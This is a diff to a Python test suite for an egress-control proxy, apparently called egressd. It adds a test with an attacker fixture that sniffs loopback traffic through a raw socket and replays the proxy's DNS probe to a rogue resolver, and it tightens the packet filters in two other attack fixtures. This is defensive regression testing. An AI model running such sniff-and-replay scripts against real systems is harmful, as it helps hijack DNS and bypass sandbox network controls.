@@ -1598,7 +1598,8 @@ PROBE_SLOTS_ATTACK = textwrap.dedent(r'''
                 continue
             ihl = (p[0] & 0xF) * 4
             data = p[ihl + (p[ihl + 12] >> 4) * 4:]
-            if len(data) > 14 and b"egressd-probe-" in data.lower() and data[14:] not in seen:
+            # queries only (QR clear): an answer carries the name too
+            if len(data) > 14 and not data[4] & 0x80 and b"egressd-probe-" in data.lower() and data[14:] not in seen:
                 seen.add(data[14:])
                 yield data[2:]
     def refused_query(i):
@@ -1805,6 +1806,69 @@ def test_a_copy_after_a_probe_that_saw_none_starts_no_probe(lab, egressd):
     r = lab.dns_query(f"{tok()}.wild.example.org", timeout=3.0)
     assert (r.rcode, r.addresses) == ("NOERROR", [WILD_V4]), r
 
+# A sandbox process (Docker's NET_RAW, to sniff `lo`) running when egressd starts: it copies
+# egressd's first probe once, over a fresh TCP connection, to its own resolver (redirected to the
+# proxy), and prints "COPIED <rcode of the proxy's answer>". argv: rogue, seconds to wait.
+FIRST_PROBE_COPIER = textwrap.dedent(r'''
+    import json, socket, struct, sys, time
+    rogue, wait = sys.argv[1], float(sys.argv[2])
+    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
+    sniff.bind(("lo", 0))
+    sniff.settimeout(0.05)
+    print("READY", flush=True)
+    out = {"copy": None}
+    deadline = time.monotonic() + wait
+    while time.monotonic() < deadline and out["copy"] is None:
+        try:
+            f = sniff.recv(65535)
+        except socket.timeout:
+            continue
+        p = f[14:]
+        if len(p) < 40 or p[0] >> 4 != 4 or p[9] != 6:
+            continue
+        ihl = (p[0] & 0xF) * 4
+        data = p[ihl + (p[ihl + 12] >> 4) * 4:]
+        if len(data) <= 14 or data[4] & 0x80 or b"egressd-probe-" not in data.lower():
+            continue
+        q = data[2:]
+        c = socket.create_connection((rogue, 53), timeout=3)
+        c.sendall(struct.pack("!H", len(q)) + q)
+        n = struct.unpack("!H", c.recv(2, socket.MSG_WAITALL))[0]
+        out["copy"] = c.recv(n, socket.MSG_WAITALL)[3] & 0xF
+        c.close()
+    print("COPIED", out["copy"], flush=True)
+    print(json.dumps(out))
+''')
+
+
+def test_a_lone_copy_of_the_first_probe_pins_nothing_when_the_resolver_forwards_from_outside(lab, egressd):
+    """Docker forwarding from the host's namespace (host resolver on loopback, Docker < 25)
+    answers egressd's probe from there, NXDOMAIN as any resolver answers a .invalid name, and no
+    copy of its own reaches the proxy. A NET_RAW process running at start sent the one copy that
+    arrived, over a fresh connection, to its own resolver: egressd pinned it, relayed copies of
+    its queries there and learned its answers. The proxy's answer to a copy now carries a token
+    (an SOA in the authority section) that egressd's own answer must bring back; the host's
+    NXDOMAIN does not, and nothing is pinned."""
+    serve(lab)
+    lab.add_servers([FORGED_V4], tcp=(80,))
+    rogue_resolver(lab)
+    HostSideResolver(lab)
+    p = attacker(lab, FIRST_PROBE_COPIER, ROGUE, 20.0, caps=DOCKER_CAPS)
+    d = egressd(policy("127.0.0.11", hosts=["a.example.com", "*.wild.example.org"]), extra=["--log-format", "json"])
+    line = labmod._read_line(p, 25.0, "the attacker's copy")
+    assert line == "COPIED 3", line  # the proxy answered the copy (NXDOMAIN): it arrived
+    labmod.wait_for(lambda: events(d, "forwarder_pinned") or dns_events(d, "forwarder_probe_race"), 10.0,
+                    "the copied probe to end")
+    attacker_result(p, timeout=10)
+    assert not events(d, "forwarder_pinned"), events(d, "forwarder_pinned")
+    assert dns_events(d, "forwarder_probe_race")[0].get("reason") == "answer_not_the_proxys", d.log()
+    # Names still resolve through the resolver, and nothing of the rogue's was learned.
+    r = lab.dns_query(f"{tok()}.wild.example.org", timeout=3.0)
+    assert (r.rcode, r.addresses) == ("NOERROR", [WILD_V4]), r
+    assert FORGED_V4 not in lab.learned_set(4)
+    assert lab.tcp_connect(FORGED_V4, 80) != "ok"
+
+
 # Found by a second review of the probe: the sandbox process (root, Docker's default capabilities;
 # NET_RAW only to sniff the probe's name on `lo`) connects to T:53 (redirected to the proxy) and
 # closes at once, from every port of the namespace's range: each leaves a TIME_WAIT entry for
@@ -1860,7 +1924,7 @@ PORT_EXHAUSTER = textwrap.dedent(r'''
             continue
         ihl = (p[0] & 0xF) * 4
         data = p[ihl + (p[ihl + 12] >> 4) * 4:]
-        if len(data) <= 14 or b"egressd-probe-" not in data.lower() or data[14:] in seen:
+        if len(data) <= 14 or data[4] & 0x80 or b"egressd-probe-" not in data.lower() or data[14:] in seen:
             continue
         seen.add(data[14:])
         q = data[2:]
